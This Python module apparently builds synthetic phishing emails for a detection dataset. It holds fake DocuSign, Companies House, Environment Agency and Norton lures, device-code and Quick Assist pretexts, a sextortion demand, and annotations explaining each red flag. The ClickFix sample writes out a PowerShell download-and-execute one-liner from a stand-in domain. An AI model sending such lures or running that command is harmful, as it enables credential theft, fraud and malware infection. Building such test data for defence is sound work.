"""English attack messages 09-16."""
import base64

from lib import *
import facts as F


def docusign_html(sender_name, sender_mail, doc, message, url, code_note=True, code=None, envelope_id=None,
                  footer_link="https://www.docusign.com"):
    code_html = ""
    if code_note:
        code_html = ('<p style="font-size:13px;color:#666"><b>Alternate Signing Method</b><br>Visit Docusign.com, click '
                     "'Access Documents', and enter the security code:<br>%s</p>" % code)
    return """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#eaeaea">
<table width="100%%" cellpadding="0" cellspacing="0" border="0" style="background:#eaeaea"><tr><td align="center" style="padding:24px 0">
<table width="640" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#333">
<tr><td style="padding:24px 24px 0 24px"><span style="font-size:22px;font-weight:bold;color:#4c00ff">docusign</span></td></tr>
<tr><td style="padding:24px">
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#4c00ff;color:#fff"><tr><td align="center" style="padding:28px 24px">
<p style="font-size:16px;margin:0 0 18px 0">%(sender)s sent you a document to review and sign.</p>
<a href="%(url)s" style="display:inline-block;background:#ffc820;color:#130032;font-weight:bold;font-size:14px;padding:12px 24px;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a>
</td></tr></table>
</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:15px;line-height:1.5">
<p><b>%(sender)s</b><br><a href="mailto:%(mail)s" style="color:#2463d1">%(mail)s</a></p>
<p>%(message)s</p>
<p style="font-size:13px;color:#666">Document: %(doc)s</p>
</td></tr>
<tr><td style="padding:24px;background:#f4f4f4;font-size:12px;color:#666;line-height:1.5">
<p><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>
%(code)s
<p><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</p>
<p>If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463d1">How to Sign a Document</a>" on our <a href="https://support.docusign.com/" style="color:#2463d1">Docusign Support Center</a>.</p>
<p><a href="%(footer)s" style="color:#2463d1">Download the Docusign App</a></p>
<p style="font-size:11px">This message was sent to you by %(sender)s who is using the Docusign Electronic Signature Service.%(env)s</p>
</td></tr>
</table></td></tr></table>
</body></html>
""" % dict(sender=html_escape(sender_name), mail=sender_mail, url=url, message=html_escape(message).replace("\n", "<br>"),
           doc=html_escape(doc), code=code_html, footer=footer_link,
           env=(" Envelope ID: %s" % envelope_id) if envelope_id else "")


def m09():
    slug = "fake-docusign-mailgun"
    r = rng_for(slug)
    t = local("UK", 2026, 11, 18, 14, 26, 3)
    snd = "dse@docusign-eu-sign.net"
    rcpt = S("uk_mgr")[1]
    p = infra.mailgun(r, t, snd, rcpt, "mg.docusign-eu-sign.net")
    url = "https://na4-docusign.eu-signing.workers.dev/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        det_uuid(r), det_uuid(r), base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip("="))
    msg = ("Hi James,\nPlease review and sign Contract Variation No. 3 (revised rates for the additional CCTV survey "
           "and lining works, Leeds North package). We need it back today so the crews can stay on site next week.\n"
           "Thanks, Gareth")
    html = docusign_html("Gareth Hughes | Northern Pipeline Services", "gareth.hughes@northernpipeline.co.uk",
                         "NPS_Contract_Variation_No3_Leeds_North.pdf", msg, url, code_note=False)
    text = """Gareth Hughes | Northern Pipeline Services sent you a document to review and sign.

REVIEW DOCUMENT: %s

%s

Document: NPS_Contract_Variation_No3_Leeds_North.pdf

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.""" % (url, msg)
    body = alt(p, text, html, "utf-8", "quoted-printable")
    return Mail(9, "en", slug, A, p, ("Gareth Hughes via Docusign", snd), [S("uk_mgr")],
                "Complete with Docusign: NPS_Contract_Variation_No3_Leeds_North.pdf", body,
                reply_to=("Gareth Hughes", "gareth.hughes@northernpipeline.co.uk"),
                what="Fake DocuSign envelope 'from Gareth Hughes, Northern Pipeline Services' (a real contractor) sent via Mailgun from docusign-eu-sign.net; 'Review document' leads to a Cloudflare Workers page.",
                why="DocuSign mail comes from docusign.net infrastructure and links to docusign.net; here the sender domain is a look-alike on Mailgun, the link goes to *.workers.dev with the recipient's address encoded (credential-harvesting kit), no envelope ID or alternate-signing security code, urgency ('need it back today').")


def m10():
    slug = "device-code-phishing-teams"
    r = rng_for(slug)
    t = local("UK", 2026, 11, 24, 10, 5, 41)
    snd = "r.dunmore@aireborough-civils.co.uk"
    rcpt = S("uk_mgr")[1]
    p = infra.m365(r, t, snd, rcpt, region="GBRP265", srv="LO2P265MB", eop=("GBR01", "LO2", "lo2gbr01"),
                   lang="en-GB", hcs="us-ascii", henc="Q")
    code = "HQ7B4NPXK"
    text = """Hi James,

Following our call on Friday - the tender pack for the Calder Valley outfall refurbishment (drawings, BoQ and the hydraulic model report) is now in our restricted Teams workspace.

Because the pack is marked commercially sensitive, external guests have to authorise their device before the files open:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: %s
3. Sign in with your Example Group Microsoft 365 account

The code is only valid for 15 minutes, so if it has timed out just reply to this email and I'll generate a fresh one for you.

Tender return is Friday 4 December, 12:00.

Kind regards,

Rachel Dunmore
Bid Manager
Aireborough Civils Ltd
Unit 7, Netherfield Road, Guiseley, Leeds LS20 9PD
T: 01943 880 214""" % code
    html = html_outlook(text, "us-ascii", lang="EN-GB", font="Aptos")
    body = alt(p, text, html, "us-ascii", "quoted-printable")
    return Mail(10, "en", slug, A, p, ("Rachel Dunmore", snd), [S("uk_mgr")],
                "Calder Valley outfall tender - restricted documents (Teams)", body,
                what="Device-code phishing: a (compromised) civils contractor's Microsoft 365 mailbox sends a tender-pack lure asking the recipient to enter an attacker-generated code at the genuine microsoft.com/devicelogin.",
                why="Entering a code that someone else generated authorises the attacker's session (OAuth device authorization grant) and hands over tokens for the victim's Microsoft 365 account; no legitimate guest access works this way; 'reply and I'll generate a fresh one' is the Storm-2372 pattern; the link itself is genuine Microsoft, so URL reputation does not help.")


def m11():
    slug = "companies-house-brevo-phish"
    r = rng_for(slug)
    t = local("UK", 2026, 10, 12, 9, 3, 17)
    snd = "no-reply@companieshouse-filing.uk"
    rcpt = S("uk_acc")[1]
    p = infra.brevo(r, t, snd, rcpt)
    url = "https://find-and-update.company-information-service.uk/confirmation-statement/09876543/file?auth=%s" % hexs(r, 24)
    text = """Companies House

EXAMPLE GROUP UK LTD
Company number: %s

Confirmation statement overdue

Our records show that the confirmation statement (CS01) for the company, with a made up date of 28 September 2026, has not been delivered to Companies House.

Failure to deliver a confirmation statement is a criminal offence. The company and its officers may be prosecuted and the registrar may take action to strike the company off the register.

To file now, sign in with your company authentication code. The filing fee of £50 is payable by card.

File confirmation statement: %s

If you have already filed, please ignore this message.

Companies House
Crown Way, Cardiff, CF14 3UZ""" % (F.EG_UK_CRN, url)
    html = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"></head>
<body style="font-family:Arial,sans-serif;font-size:19px;line-height:1.315789474;color:#0b0c0c;margin:0">
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#0b0c0c"><tr><td style="padding:16px 30px;color:#fff;font-size:28px;font-weight:700">Companies House</td></tr></table>
<table width="580" cellpadding="0" cellspacing="0" align="center"><tr><td style="padding:30px 10px">
<p style="font-size:16px;color:#505a5f">EXAMPLE GROUP UK LTD<br>Company number: %s</p>
<h1 style="font-size:32px;margin:20px 0">Confirmation statement overdue</h1>
<p>Our records show that the confirmation statement (CS01) for the company, with a made up date of 28 September 2026, has not been delivered to Companies House.</p>
<p style="border-left:10px solid #b1b4b6;padding:15px">Failure to deliver a confirmation statement is a criminal offence. The company and its officers may be prosecuted and the registrar may take action to strike the company off the register.</p>
<p>To file now, sign in with your company authentication code. The filing fee of £50 is payable by card.</p>
<p><a href="%s" style="display:inline-block;background:#00703c;color:#fff;padding:10px 18px;text-decoration:none;font-weight:700">File confirmation statement</a></p>
<p>If you have already filed, please ignore this message.</p>
<p style="font-size:16px;color:#505a5f">Companies House<br>Crown Way, Cardiff, CF14 3UZ</p>
</td></tr></table>
<img width="1" height="1" src="https://r.sp1-brevo.net/tr/op/%s" alt="">
</body></html>
""" % (F.EG_UK_CRN, url, alnum(r, 64))
    body = alt(p, text, html, "utf-8", "quoted-printable")
    return Mail(11, "en", slug, A, p, ("Companies House", snd), [S("uk_acc")],
                "Action required: confirmation statement overdue - EXAMPLE GROUP UK LTD (%s)" % F.EG_UK_CRN, body,
                extra=[("List-Unsubscribe", "<https://r.sp1-brevo.net/tr/un/%s>" % alnum(r, 48))],
                what="Companies House lure via Brevo from companieshouse-filing.uk: confirmation statement 'overdue', sign in with the company authentication code and pay the fee by card.",
                why="Companies House writes from gov.uk / GOV.UK Notify and links to find-and-update.company-information.service.gov.uk; this look-alike (company-information-service.uk) harvests the company authentication code (lets the attacker file changes, e.g. registered office/directors) and card data; prosecution/strike-off threat. Made-up date contradicts the genuine reminder (business 13).")


def m12():
    slug = "svg-environment-agency-permit"
    r = rng_for(slug)
    t = local("UK", 2026, 10, 29, 11, 47, 36)
    snd = "permitting@ea-permitting-gov.uk"
    rcpt = S("uk_mgr")[1]
    p = infra.vps(r, t, snd, rcpt, "cp-uk14.fasthostinguk.net", "cp-uk14.fasthostinguk.net", "185.151.28.114",
                  mailer="phpmailer", own_hop=False)
    p.hops = ["from [41.216.186.77] (port=52144 helo=[127.0.0.1])\n\tby cp-uk14.fasthostinguk.net with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n\t(envelope-from <permitting@ea-permitting-gov.uk>)\n\tid 1tF7xQ-0007Lk-2b\n\tfor james.whitfield@example.com;\n\t%s" % rfcdate(t, "UK")]
    url = "https://ea-compliance-portal.com/car/view?ref=EPR-AB1234CD&u=%s" % base64.urlsafe_b64encode(rcpt.encode()).decode().rstrip("=")
    text = """Dear Permit Holder,

Environmental Permitting (England and Wales) Regulations 2016
Permit: EPR/AB1234CD - Calderbrook Wastewater Treatment Works
Operator: Example Group UK Ltd

Following the recent site inspection and review of your self-monitoring returns, a Compliance Assessment Report (CAR) has been issued for the above permit. A Category 2 non-compliance has been recorded against condition 3.1.1 (discharge limits).

Please review the attached report and submit your response, including the proposed corrective actions, within 14 days of the date of this notice. Failure to respond may result in further enforcement action in line with our Enforcement and Sanctions Policy.

The report is provided as a secure document. Open the attachment and sign in with your organisation email to view it.

Yours faithfully,

Permitting and Support Centre
Environment Agency
Quadrant 2, 99 Parkway Avenue, Sheffield S9 4WF"""
    svg = attach.svg_lure([
        "**Compliance Assessment Report (CAR)",
        "Permit: EPR/AB1234CD",
        "Site: Calderbrook Wastewater Treatment Works",
        "Operator: Example Group UK Ltd",
        "Assessment: Category 2 non-compliance (condition 3.1.1)",
        "Response required within 14 days",
        "",
        "This document is protected. Sign in with your work account to view.",
    ], "View secure document", url, header="Environment Agency", accent="#00703c")
    body = mixed(p, Text(text, "plain", "us-ascii", "7bit"),
                 [att(p, svg.encode("utf-8"), "CAR_EPR-AB1234CD_Calderbrook.svg", "image/svg+xml")])
    return Mail(12, "en", slug, A, p, ("Environment Agency - Permitting", snd), [S("uk_mgr")],
                "EPR/AB1234CD - Compliance Assessment Report: non-compliance recorded", body,
                what="Regulator-themed SVG phishing: 'Environment Agency' compliance assessment report as an .svg attachment whose button links to a sign-in page; sent through a compromised cPanel host from look-alike ea-permitting-gov.uk.",
                why="The Environment Agency uses environment-agency.gov.uk; the sender is a look-alike on a shared host reached from an unrelated IP; an SVG 'document' that only contains a 'View secure document' link to ea-compliance-portal.com with the recipient's address encoded; enforcement threat and deadline.")


def m13():
    slug = "callback-toad-antivirus-invoice"
    r = rng_for(slug)
    t = local("UK", 2026, 11, 20, 16, 58, 12)
    snd = "nortonbillingcentre.uk@gmail.com"
    rcpt = S("uk_acc")[1]
    p = infra.gmail(r, t, snd, rcpt, zone="UK")
    phone = "+44 20 7946 0381"
    text = """Dear Customer,

Thank you for your continued trust in Norton.

Your subscription for Norton 360 Deluxe (5 devices, 1 year) has been renewed successfully and the amount of £389.99 has been charged to the payment method on file.

Invoice number: NLK-88274136
Renewal date: 20/11/2026
Amount: £389.99 (incl. VAT)

Your invoice is attached for your records.

If you did not authorise this renewal or wish to request a refund, please contact our billing department within 24 hours on %s (Mon-Sat, 8am-8pm). After 24 hours the renewal cannot be cancelled.

Regards,
Billing Department""" % phone
    pdf = simple_pdf("Invoice NLK-88274136", [
        "# INVOICE",
        "Invoice No: NLK-88274136                    Date: 20/11/2026",
        "",
        "Bill to: priya.shah@examplegroup.eu",
        "",
        "Description                                             Qty          Amount",
        "Norton 360 Deluxe - 5 devices - 12 months          1             £324.99",
        "VAT 20%                                                                    £65.00",
        "**Total charged                                                          £389.99",
        "",
        "Payment method: Card ending **** 4417 - PAID",
        "",
        "**To cancel and receive a full refund call: " + phone,
        "Cancellation is only possible within 24 hours of renewal.",
    ], author="Billing", creator="Canva", producer="Canva", created=pdfdate(t, "UK"))
    body = mixed(p, alt(p, text, html_gmail(text), "UTF-8", "quoted-printable"),
                 [att(p, pdf, "Invoice_NLK-88274136.pdf")])
    return Mail(13, "en", slug, A, p, ("Norton Billing", snd), [S("uk_acc")],
                "Your subscription has been renewed - Invoice NLK-88274136", body,
                what="Callback phishing (TOAD): fake Norton 360 renewal invoice for £389.99 from a Gmail address with a PDF, asking to phone a 'billing department' within 24 hours to cancel.",
                why="No relationship with the brand, free-mailer sender, the only call to action is a phone number (leads to a scammer who installs remote-access tools or takes card/bank details); 24-hour pressure; no links so URL filters see nothing.")


def m14():
    slug = "clickfix-remittance-html"
    r = rng_for(slug)
    t = local("UK", 2026, 12, 8, 13, 21, 55)
    snd = "accounts@yorkshirevalve.co.uk"
    rcpt = S("uk_acc")[1]
    p = infra.roundcube(r, t, snd, rcpt, dict(kind="cpanel", host="uk-shared42.cloudhostpro.co.uk", ip="77.72.4.142"),
                        "196.251.72.18", zone="UK")
    text = """Hello,

Please find attached remittance advice for the payment made today against your outstanding invoices.

Payment reference: BACS 0812-44719
Amount: £7,486.20

Kind regards,

Accounts Department
Yorkshire Valve & Fittings Ltd
Tel: 0113 496 0712"""
    cmd = 'powershell -w h -nop -c "$u=\'https://cdn-verify-captcha.com/r/0812\';iex (iwr $u -UseBasicParsing).Content"  # Verification ID: 4471-CF'
    page = attach.clickfix_page("Remittance advice - secure document", "This document is protected by Cloudflare. Complete the verification steps to continue:",
                                ["Press Windows Button + R", "Press CTRL + V", "Press Enter"], cmd,
                                "Ray ID: 8f2c41ad9b7e03c1 · Performance & security by Cloudflare")
    body = mixed(p, Text(text, "plain", "UTF-8", "quoted-printable", params=["format=flowed"]),
                 [att(p, page.encode("utf-8"), "Remittance_Advice_BACS_0812-44719.html", "text/html")])
    return Mail(14, "en", slug, A, p, ("Yorkshire Valve & Fittings Ltd - Accounts", snd), [S("uk_acc")],
                "Remittance advice - BACS 0812-44719", body,
                what="ClickFix: 'remittance advice' HTML attachment from a compromised supplier-like small business (cPanel Roundcube, logged in from an unrelated IP) shows a fake Cloudflare check telling the user to press Win+R, paste and Enter.",
                why="The page's 'verification code' is a hidden PowerShell download-and-execute one-liner (iex/iwr from cdn-verify-captcha.com); any page asking to paste commands into the Run dialog is malicious; remittances are PDFs; Example Group UK is the payee so 'payment made to you' is bait. (Page is static text only, nothing executes.)")


def m15():
    slug = "it-helpdesk-quick-assist-vishing"
    r = rng_for(slug)
    t = local("UK", 2026, 12, 2, 9, 12, 8)
    snd = "servicedesk@examplegroup-support.com"
    rcpt = S("uk_acc")[1]
    p = infra.ses(r, t, snd, rcpt, region="eu-west-1")
    text = """Hi Priya,

Ticket: INC0048213 - Unusual volume of unsolicited email to your mailbox

Our monitoring has detected a large number of unwanted newsletter and subscription emails arriving in your mailbox since early this morning (a so-called spam flood). To stop this we need to apply a filter to your Outlook profile.

A member of the IT Service Desk will contact you shortly via Microsoft Teams (display name "Help Desk | Example Group"). Please accept the chat and, when asked, open Quick Assist (press Ctrl + Windows + Q) and tell the engineer the security code shown on your screen so they can connect.

The clean-up takes about 10 minutes. Please do not restart your PC in the meantime.

Kind regards,
IT Service Desk
Example Group | ext. 4400"""
    html = html_simple(text, "utf-8", style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222")
    body = alt(p, text, html, "utf-8", "quoted-printable")
    return Mail(15, "en", slug, A, p, ("Example Group IT Service Desk", snd), [S("uk_acc")],
                "[INC0048213] Unusual volume of spam to your mailbox - remote clean-up", body,
                what="Remote-access vishing pretext (email bombing + Teams + Quick Assist): 'IT Service Desk' on look-alike examplegroup-support.com via Amazon SES announces a Teams call and asks the user to open Quick Assist and read out the code.",
                why="Not an Example Group domain; internal IT never announces itself from an external ESP nor asks users to start Quick Assist for an external Teams caller; this is the Storm-1811 / Black Basta initial-access playbook; the genuine IT notice (business 15) says exactly that.")


def m16():
    slug = "sextortion-bitcoin-spoofed-self"
    r = rng_for(slug)
    t = local("ICT", 2026, 11, 14, 10, 27, 33)
    rcpt = S("uk_mgr")[1]
    p = infra.vps(r, t, rcpt, rcpt, "static.vnpt.vn", None, "113.161.84.36", mailer="swaks-like", own_hop=False,
                  zone="ICT", tls=None, rp="hoangminh.travel@vietsunrise-tour.vn")
    addr = F.BTC_EXTORT
    text = """Hello James,

I'll get straight to the point. I have had access to your devices for several months. You might have noticed that this email was sent from your own address - that is how deep I am in.

A while ago you opened a link in an email and a piece of software was installed on your computer. Since then I have been able to see everything you do: your screen, your browser, your microphone and your camera. I have copies of your contacts, your messages and your company files.

I also recorded you while you were visiting certain websites. I don't need to describe what is on those videos. I have edited them so that the video from your camera plays next to what was on your screen.

I am a reasonable person. Send exactly 1450 USD in Bitcoin to the address below and I will delete everything and disappear:

%s

If you don't know how to buy Bitcoin, search "buy bitcoin" - it takes ten minutes.

You have 48 hours from the moment you open this email. I can see when you read it. If I don't receive the payment, the videos will be sent to all your contacts, colleagues and business partners.

Do not reply to this email and do not contact the police - I will know immediately and there will be no second chance.""" % addr
    body = Text(text, "plain", "utf-8", "base64")
    return Mail(16, "en", slug, A, p, ("James Whitfield", rcpt), [S("uk_mgr")],
                "James, your device has been compromised - payment required", body,
                what="Sextortion / extortion with a Bitcoin address; From spoofs the recipient's own address; sent without TLS from a Vietnamese broadband host with an unrelated envelope sender.",
                why="Extortion demand (1,450 USD in BTC, 48 h deadline, threat to send videos to colleagues); forged From equal to the recipient while the envelope sender and client IP are foreign; base64 body to evade keyword filters. The bech32 address is checksum-valid.",
                checks={"btc": addr})


def build():
    return [m09(), m10(), m11(), m12(), m13(), m14(), m15(), m16()]
